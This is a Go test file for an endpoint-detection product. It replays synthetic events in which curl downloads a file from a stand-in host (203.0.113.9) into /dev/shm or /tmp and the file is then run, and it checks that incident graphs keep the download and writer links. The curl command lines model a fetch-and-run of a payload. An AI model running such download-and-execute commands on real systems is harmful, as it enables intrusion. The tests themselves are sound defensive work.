package incident_test

import (
	"testing"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/incident"
)

// A file that was run and removed at once: its removal comes by another lane and may arrive before its run.
func TestRunOfARemovedFileThatIsToldLateHasItsWriter(t *testing.T) {
	tp := newTape(hostA)
	tp.running("shell", "init", 20, "/usr/bin/dash", "sh -s")
	tp.start("curl", "shell", 40, "/usr/bin/curl", "curl -o /dev/shm/t http://203.0.113.9/t")
	tp.connect("curl", "203.0.113.9:80")
	tp.write("curl", "/dev/shm/t", "77")
	run := tp.startFile("tool", "shell", 41, "/dev/shm/t", "/dev/shm/t", "77")
	tp.detect(run, "program run from shared memory", detection.High)
	tp.add(event.Event{
		Kind: event.FileDelete, Actor: *tp.procs["shell"], Parent: tp.up("shell"),
		File: event.File{Path: "/dev/shm/t", VolumeID: "0:25", FileID: "77", Links: 1},
	})
	n := len(tp.events)
	tp.events[n-2], tp.events[n-1] = tp.events[n-1], tp.events[n-2]
	s := tp.story()
	wantEdge(t, s, incident.EdgeDownloaded, 1)
	wantEdge(t, s, incident.EdgeWroteExec, 2)
}

// Who moves a downloaded file, or gives it a second name, did not write it.
func TestMovedFileKeepsItsWriter(t *testing.T) {
	for _, kind := range []event.Kind{event.FileRename, event.FileLink} {
		tp := newTape(hostA)
		tp.running("shell", "init", 20, "/usr/bin/dash", "sh -s")
		tp.start("curl", "shell", 40, "/usr/bin/curl", "curl -o /tmp/t http://203.0.113.9/t")
		tp.connect("curl", "203.0.113.9:80")
		tp.write("curl", "/tmp/t", "77")
		tp.start("mv", "shell", 41, "/usr/bin/mv", "mv /tmp/t /tmp/u")
		tp.add(event.Event{
			Kind: kind, Actor: *tp.procs["mv"], Parent: tp.up("mv"), OldFile: event.File{Path: "/tmp/t"},
			File: event.File{Path: "/tmp/u", VolumeID: "0:25", FileID: "77", Mode: 0o100755, Links: 2},
		})
		run := tp.startFile("tool", "shell", 42, "/tmp/u", "/tmp/u", "77")
		tp.detect(run, "program run from a temporary folder", detection.High)
		s := tp.story()
		wantEdge(t, s, incident.EdgeDownloaded, 1)
		wantMembers(t, tp, s, []string{"curl", "tool"}, nil)
	}
}
